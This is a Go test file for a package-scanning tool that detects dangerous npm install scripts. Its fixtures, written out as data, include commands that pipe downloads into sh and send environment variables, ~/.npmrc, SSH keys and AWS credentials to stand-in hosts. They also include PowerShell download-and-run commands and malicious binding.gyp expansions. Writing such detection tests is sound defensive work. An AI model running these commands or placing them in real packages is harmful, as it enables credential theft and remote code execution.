package install

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestLifecycleScript(t *testing.T) {
	rt.Check(t, LifecycleScript{}, []rt.Case{
		{"postinstall", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`)}, finding.SeverityLow},
		{"implicit_gyp", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": "{}"}, finding.SeverityInfo},
		// published builds keep their prepare; registry installs never run it
		{"prepare_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepare":"husky install"}`)}, finding.SeverityInfo},
		{"prepare_and_postinstall", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepare":"tsc","postinstall":"node setup.js"}`)}, finding.SeverityLow},
		{"test_script_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"test":"node test.js"}`)}, finding.SeverityNone},
	})
}

func TestShellDownloadExec(t *testing.T) {
	rt.Check(t, ShellDownloadExec{}, []rt.Case{
		{"curl_pipe_sh", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"curl -s https://setup.example.invalid/i.sh | sh"}`)}, finding.SeverityCritical},
		// a shipped shell script nothing runs at install: sending secrets
		// is theft whoever starts it; to a request bin it is critical
		{"shipped_sh_env_to_bin", map[string]string{"package.json": rt.Pkg(`"bin":{"t":"cli.js"}`), "cli.js": "require('child_process').spawn('sh', [__dirname + '/scripts/check.sh'], {detached: true})",
			"scripts/check.sh": "#!/bin/sh\nOUT=$(mktemp)\n{ env; cat \"$HOME/.npmrc\"; } > \"$OUT\"\ngzip -c \"$OUT\" | base64 | curl -s -X POST --data-binary @- https://webhook.site/0f6c-test\n"}, finding.SeverityCritical},
		{"shipped_sh_keys_to_host", map[string]string{"package.json": rt.Pkg(``), "tools/sync": "#!/usr/bin/env bash\ntar czf - -C \"$HOME\" .ssh .aws | curl -s -X POST --data-binary @- https://sync.example.invalid/u\n"}, finding.SeverityHigh},
		// a long toolchain script: the environment here, a download there
		{"shipped_toolchain_script", map[string]string{"package.json": rt.Pkg(``), "scripts/cross.sh": "#!/usr/bin/env bash\nenv | sort\n" + strings.Repeat("# configure the cross compiler for the next architecture in the list\n", 80) + "wget --no-verbose https://toolchains.example.invalid/gcc.tar.bz2\ncurl -s -X POST --data-binary @build.log https://ci.example.invalid/logs\n"}, finding.SeverityNone},
		// the interpreter line is no environment dump
		{"shipped_env_shebang_download", map[string]string{"package.json": rt.Pkg(``), "scripts/fetch.sh": "#!/usr/bin/env bash\nset -eo pipefail\nwget --no-verbose https://toolchains.example.invalid/gcc.tar.bz2\ncurl -s -X POST --data-binary @build.log https://ci.example.invalid/logs\n"}, finding.SeverityNone},
		// an integration test posting to the server it started
		{"shipped_test_localhost", map[string]string{"package.json": rt.Pkg(``), "integration/test.sh": "#!/usr/bin/bash\nNUMBER=$RANDOM\ncurl -i -X POST -H 'Content-Type: application/json' localhost:3000/post/$NUMBER --data {} > POST\nenv | grep -q CI && cat ~/.npmrc | curl -s -X POST --data-binary @- http://127.0.0.1:3000/echo\n"}, finding.SeverityNone},
		// a release script the maintainers run: a token used, not sent
		{"shipped_release_sh", map[string]string{"package.json": rt.Pkg(``), "scripts/release.sh": "#!/bin/sh\nset -e\necho \"//registry.npmjs.invalid/:_authToken=${NPM_TOKEN}\" > .npmrc\nnpm publish --access public\ngit push --follow-tags\n"}, finding.SeverityNone},
		// files handed to a shell or an interpreter, with or without an extension
		{"bash_no_extension", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"bash ./install"}`), "install": "#!/bin/bash\nenv | curl -s -X POST -d @- http://x.example.invalid/c\n"}, finding.SeverityCritical},
		{"sh_subdir", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"sh scripts/setup"}`), "scripts/setup": "curl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
		{"python_file", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 scripts/setup.py"}`), "scripts/setup.py": "import os\nos.system('curl -s http://x.example.invalid/x | sh')\n"}, finding.SeverityCritical},
		{"python_inline_key", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 -c \"import os,urllib.request;urllib.request.urlopen('http://x.example.invalid/k',data=open(os.path.expanduser('~/.ssh/id_rsa'),'rb').read())\""}`)}, finding.SeverityCritical},
		{"python_build_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"python3 build.py"}`), "build.py": "import urllib.request, tarfile\nurllib.request.urlretrieve('https://x.example.invalid/headers.tar.gz', 'h.tgz')\ntarfile.open('h.tgz').extractall('deps')\n"}, finding.SeverityNone},
		{"cmake_file", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"cmake -P build.cmake"}`), "build.cmake": "file(DOWNLOAD http://x.example.invalid/x ${CMAKE_BINARY_DIR}/x)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/x)\n"}, finding.SeverityCritical},
		{"makefile_f", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"make -f build.mk"}`), "build.mk": "all:\n\tcurl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
		{"makefile", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"make"}`), "Makefile": "all:\n\tcurl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
		{"powershell_file", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -ExecutionPolicy Bypass -File scripts/setup.ps1"}`), "scripts/setup.ps1": "iwr http://x.example.invalid/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe\n"}, finding.SeverityCritical},
		{"gyp_action", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"f","inputs":[],"outputs":["g.h"],"action":["sh","-c","curl -s http://x.example.invalid/x | sh"]}]}]}`}, finding.SeverityCritical},
		{"gyp_action_make", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","type":"none","actions":[{"action_name":"b","inputs":[],"outputs":["o"],"action":["make","-C","deps"]}]}]}`,
			"deps/Makefile": "all:\n\twget -qO- http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
		// the script an action runs keeps its download command in a
		// variable, and runs what it fetched when it is there
		{"gyp_action_script_variable", map[string]string{"package.json": rt.Pkg(`"gypfile":true`),
			"binding.gyp":    `{"targets":[{"target_name":"a","actions":[{"action_name":"f","inputs":[],"outputs":["s"],"action":["sh","scripts/pre.sh"]}]}]}`,
			"scripts/pre.sh": "#!/bin/sh\nDL=\"curl -fsSL -o\"\n$DL \"$HOME/.cache/h\" \"http://198.51.100.23/dl/h\"\nif [ -s \"$HOME/.cache/h\" ]; then\n  chmod 755 \"$HOME/.cache/h\"\nfi\n"}, finding.SeverityCritical},
		{"gyp_action_codegen", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"gen","inputs":["t.py"],"outputs":["g.h"],"action":["python3","t.py","g.h"]}]}]}`}, finding.SeverityNone},
		{"saved_then_run", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -s -o /tmp/a https://x.example.invalid/a && chmod +x /tmp/a && /tmp/a"}`)}, finding.SeverityCritical},
		// npm runs these when it installs from git
		{"prepack", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepack":"curl -s http://x.example.invalid/x | sh"}`)}, finding.SeverityCritical},
		{"dependencies_hook", map[string]string{"package.json": rt.Pkg(`"scripts":{"dependencies":"curl -s http://x.example.invalid/x | sh"}`)}, finding.SeverityCritical},
		{"prepack_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepack":"npm run build && node scripts/clean.js"}`)}, finding.SeverityNone},
		// a shell script installed as a command
		{"shell_bin", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/tool"}`), "bin/tool": "#!/bin/sh\ncurl -s http://x.example.invalid/p -o /tmp/.p && chmod +x /tmp/.p && /tmp/.p \"$@\"\n"}, finding.SeverityHigh},
		{"shell_bin_plain", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/tool"}`), "bin/tool": "#!/bin/sh\nexec node \"$(dirname \"$0\")/../lib/cli.js\" \"$@\"\n"}, finding.SeverityNone},
		// a shell script shipped but never run at install
		{"unrun_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": "1", "scripts/release": "curl -s http://x.example.invalid/x | sh\n"}, finding.SeverityNone},
		{"powershell_enc", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}`)}, finding.SeverityCritical},
		{"secrets_in_sh", map[string]string{
			"package.json": rt.Pkg(`"scripts":{"postinstall":"sh ./hook.sh"}`),
			"hook.sh":      "k=$(cat $HOME/.ssh/id_rsa.pub)\ncurl -d \"k=$k\" https://collect.example.invalid/\n"}, finding.SeverityCritical},
		{"sh_c_command_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"bash -c \"$(curl -fsSL https://setup.example.invalid/i.sh)\""}`)}, finding.SeverityCritical},
		{"env_posted", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -X POST -d \"$(env | base64)\" https://collect.example.invalid/e"}`)}, finding.SeverityCritical},
		{"python_environ", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 -c \"import os,urllib.request as u;u.urlopen('https://c.example.invalid/',data=str(dict(os.environ)).encode())\""}`)}, finding.SeverityCritical},
		// substitutions that fetch nothing
		{"version_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"sh -c \"$(node -p 'process.arch') build\" && curl --version"}`)}, finding.SeverityNone},
		{"trusted_host_still_high", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"curl -fsSL https://github.com/o/r/releases/download/v1/i.sh | bash"}`)}, finding.SeverityHigh},
		{"benign_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node-gyp rebuild","postinstall":"node install.js"}`)}, finding.SeverityNone},
		{"sh_not_run_at_install", map[string]string{"package.json": rt.Pkg(""), "tools/release.sh": "curl -s https://x.invalid/a | sh"}, finding.SeverityNone},
		{"gyp_command_expansion", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": `{"targets": [{"target_name": "x", "sources": ["<!(curl -s https://x.invalid/a | sh)"]}]}`}, finding.SeverityCritical},
		{"gyp_late_list_expansion", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"prebuild-install || node-gyp rebuild"}`), "binding.gyp": "{\"variables\": {\"x\": \">!@(sh -c 'wget -qO- https://x.invalid/a | sh')\"}}"}, finding.SeverityCritical},
		{"gyp_benign_expansion", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": `{"targets": [{"target_name": "x", "include_dirs": ["<!(node -p \"require('node-addon-api').include\")"]}]}`}, finding.SeverityNone},
		{"gyp_not_built", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node install.js"}`), "binding.gyp": `{"x": "<!(curl -s https://x.invalid/a | sh)"}`}, finding.SeverityNone},
	})
}
